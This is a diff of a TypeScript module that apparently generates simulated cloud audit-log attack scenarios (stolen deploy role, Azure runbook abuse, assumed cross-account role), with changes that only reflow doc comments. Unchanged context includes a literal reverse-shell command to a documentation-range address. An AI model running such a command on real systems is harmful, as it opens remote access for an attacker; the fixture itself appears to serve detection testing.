@@ -7,7 +7,10 @@ import type { Story } from './story'
 const STOLEN = role('Deploy', 'ci-9999', { ip: '203.0.113.7', userAgent: 'Boto3/1.34.0 md/Botocore#1.34.0' })
 const FLEET = [3, 4, 5, 6, 7, 8].map(instance)
 
-/** The deploy role in other hands: a reverse shell, then the whole fleet one by one, then everything by tag whatever fails. */
+/**
+ * The deploy role in other hands: a reverse shell, then the whole fleet one by one, then
+ * everything by tag whatever fails.
+ */
 export const writeStolenRole = (story: Story, date: string): void => {
   const at = (time: string): string => `${date}T${time}.000Z`
   const shell = 'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1'
@@ -29,7 +32,10 @@ const PROVIDER = person('support@example.com', 0x31, {
 const ALICE = person('alice@example.com', 0x11, { ip: '203.0.113.41', client: AZURE_PORTAL })
 const BOB = person('bob@example.com', 0x12, { ip: '203.0.113.42' })
 
-/** A service provider's rights on a database server, a script extension by hand, a runbook written, published and run at once. */
+/**
+ * A service provider's rights on a database server, a script extension by hand, a runbook
+ * written, published and run at once.
+ */
 export const writeAzureDay = (story: Story, date: string): void => {
   const at = (time: string): string => `${date}T${time}.000Z`
   const run = at('11:20:00')
@@ -88,7 +94,10 @@ const SUPPORT = role('Support', 'support', { ip: '203.0.113.50', accessKeyId: PA
 const OPERATIONS = role('Operations', 'botocore-session-1773000000', { ip: '203.0.113.51' })
 const TEMPORARY = user('temp-admin', { ip: '203.0.113.52' })
 
-/** A role taken from another account, a download piped into a shell in a container, a boot script, and a process nobody sent. */
+/**
+ * A role taken from another account, a download piped into a shell in a container, a boot
+ * script, and a process nobody sent.
+ */
 export const writeLastDay = (story: Story, date: string): void => {
   const at = (time: string): string => `${date}T${time}.000Z`
   story.trail.push(story.cloudTrail.assumeRole(at('08:00:00'), partner('203.0.113.50'), 'Support', PARTNER_KEY))
